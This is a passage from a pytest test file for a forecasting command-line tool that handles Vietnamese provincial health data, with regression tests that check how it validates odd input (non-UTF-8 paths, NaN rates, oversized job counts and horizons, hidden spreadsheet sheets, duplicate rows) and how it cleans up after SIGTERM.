    """D8: a store path with bytes that are not UTF-8 ended in `RuntimeError: std::bad_cast`."""
    path = os.fsdecode(os.fsencode(tmp_path) + b"/st\xff\xfe.duckdb")
    for args in (["data", "status"], ["data", "import", str(TIDY)], ["run", "--as-of", "2026Q4"]):
        result = forecast("--store", path, *args)
        assert result.returncode == 1, result.stderr
        one_line_error(result, "st\\xff\\xfe.duckdb", "is not valid UTF-8", "--store")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("rate", ["nan", "inf", "-inf", "1e308", "-100"])
def test_a_scenario_rate_outside_the_data_is_refused_before_the_run(tmp_path, store_copy, rate):
    """D11: `--scenario rate=nan` or `rate=1e308` were accepted: empty results, no message."""
    before = table_hashes(store_copy)
    out = tmp_path / "what-if.csv"
    start = time.monotonic()
    result = forecast(
        "--store",
        str(store_copy),
        "run",
        "--as-of",
        "2026Q4",
        "--scenario",
        f"rate={rate}",
        "--scenario-out",
        str(out),
    )
    assert result.returncode == 1, result.stderr
    one_line_error(result, f"rate={rate}", "rate=-")
    assert time.monotonic() - start < 60 and not out.exists()  # before any forecast
    assert table_hashes(store_copy) == before  # no run saved


def test_a_scenario_rate_is_checked_against_the_observed_rates():
    from forecast.assess.scenarios import check_rates, observed_rates
    from forecast.errors import ValidationError

    obs = _real_rows("Hà Nam", "imr")
    seen = observed_rates(obs)["rate"]
    check_rates(["rate=-3", "national", "rate=9.5"], obs)  # always within ±10 %/yr
    check_rates([f"rate={seen.min():g}"], obs)
    with pytest.raises(ValidationError, match="outside the annual rates observed"):
        check_rates([f"rate={max(seen.max(), 10) + 1:g}"], obs)


def test_jobs_beyond_the_cores_are_capped_with_a_warning(tmp_path, small_store):
    """D12: `--jobs 1000` started a kernel per notebook at once (14 kernels on 2 cores, +2.4 GB)."""
    from forecast.report.publish.executors import cores

    out = tmp_path / "r"
    result = fake_report(
        EMPTY,
        "--store",
        str(small_store),
        "report",
        "--quarter",
        "2026Q4",
        "--out",
        str(out),
        "--jobs",
        "1000",
    )
    assert result.returncode == 0, result.stderr
    assert (
        f"--jobs 1000 is more than the {cores()} cores of this machine: using {cores()} workers"
        in result.stderr
    )
    manifest = json.loads((out / "2026Q4" / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["settings"]["jobs"] == cores() and manifest["settings"]["executor"]["workers"] == cores()


def test_a_workbook_formula_without_a_saved_value_is_quarantined_and_a_hidden_sheet_noticed(tmp_path):
    """D13: formulas with no cached value counted as "missing" with no reason; a hidden sheet was
    imported without notice."""
    import openpyxl

    hanam, lamdong = _real_rows("Hà Nam", "imr"), _real_rows("Lâm Đồng", "imr")
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Số liệu"
    sheet.append(list(hanam.columns))
    for row in hanam.itertuples(index=False):
        sheet.append(list(row))
    sheet["D3"] = "=D2*0.97"  # written by a program that does not calculate: no saved value
    other = book.create_sheet("cũ")
    other.append(list(lamdong.columns))
    for row in lamdong.itertuples(index=False):
        other.append(list(row))
    other.sheet_state = "hidden"
    path = tmp_path / "hanam.xlsx"
    book.save(path)
    result = forecast("--store", str(tmp_path / "s.duckdb"), "data", "import", str(path))
    assert result.returncode == 0, result.stderr
    assert "sheet 'cũ' is hidden" in result.stderr
    summary = store.import_files([path], tmp_path / "again.duckdb")
    assert summary.loc[0, "imported"] == len(hanam) - 1 + len(lamdong)
    assert summary.loc[0, "missing"] == 0 and summary.loc[0, "quarantined"] == 1
    [reason] = store.load_quarantine(tmp_path / "again.duckdb")["reason"]
    assert "cell D3 holds a formula (=D2*0.97) with no saved value" in reason


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_sigterm_removes_the_folders_the_report_made_and_only_those(tmp_path, small_store):
    """D14: after SIGTERM the message said "--out is unchanged" but nested folders it created remained."""
    slow = tmp_path / "slow.ipynb"
    nb = nbformat.v4.new_notebook()
    nb.cells = [
        nbformat.v4.new_code_cell("x = 1", metadata={"tags": ["parameters"]}),
        nbformat.v4.new_code_cell("import time\ntime.sleep(120)"),
    ]
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nbformat.write(nb, slow)
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "keep.txt").write_text("mine")
    out = mine / "new" / "deeper"
    args = ["--store", str(small_store), "report", "--quarter", "2026Q4", "--province", "Hà Nam"]
    proc = fake_report(slow, *args, "--out", str(out), "--jobs", "1", background=True)
    try:
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline and not list(out.glob(".2026Q4.tmp-*/_work")):
            time.sleep(0.5)
        time.sleep(3)
        proc.send_signal(signal.SIGTERM)
        _, err = proc.communicate(timeout=60)
        assert proc.returncode == 128 + signal.SIGTERM, err
        assert "nothing was published" in err and "Traceback" not in err
        assert sorted(p.name for p in mine.iterdir()) == ["keep.txt"]  # new/deeper gone, mine kept
    finally:
        with contextlib.suppress(ProcessLookupError):
            proc.kill()
        for p in _descendants(proc.pid):
            with contextlib.suppress(ProcessLookupError):
                os.kill(p, signal.SIGKILL)


def test_every_copy_of_a_conflicting_row_is_quarantined(tmp_path):
    """D15: a third copy of a conflicting duplicate was counted "duplicate" while its twin was quarantined."""
    import pandas as pd

    rows = _real_rows("Hà Nam", "imr")
    first = rows.iloc[[0]]
    twin = first.assign(value=first["value"] * 1.5)
    pd.concat([rows, twin, first]).to_csv(tmp_path / "edited.csv", index=False)  # value, other value, value
    path = tmp_path / "store.duckdb"
    summary = store.import_files([tmp_path / "edited.csv"], path)
    assert summary.loc[0, "imported"] == len(rows) - 1 and summary.loc[0, "duplicate"] == 0
    assert summary.loc[0, "quarantined"] == 3 and summary.loc[0, "reasons"] == "conflicting duplicate: 3"
    assert int(first["year"].iloc[0]) not in {r[2] for r in observations(path)}


def test_backtest_horizon_past_the_horizon_end_is_refused(tmp_path, series_csv):
    """D16: `backtest --horizon 100000` was accepted (700,000 rows)."""
    out = tmp_path / "bt.csv"
    start = time.monotonic()
    result = forecast(
        "backtest", "--input", str(series_csv), "--origin", "2013", "--horizon", "100000", "--out", str(out)
    )
    assert result.returncode == 1, result.stderr
    one_line_error(result, "horizon 100000", "past 2035", "--horizon 22 or less")
    assert time.monotonic() - start < 30 and not out.exists()
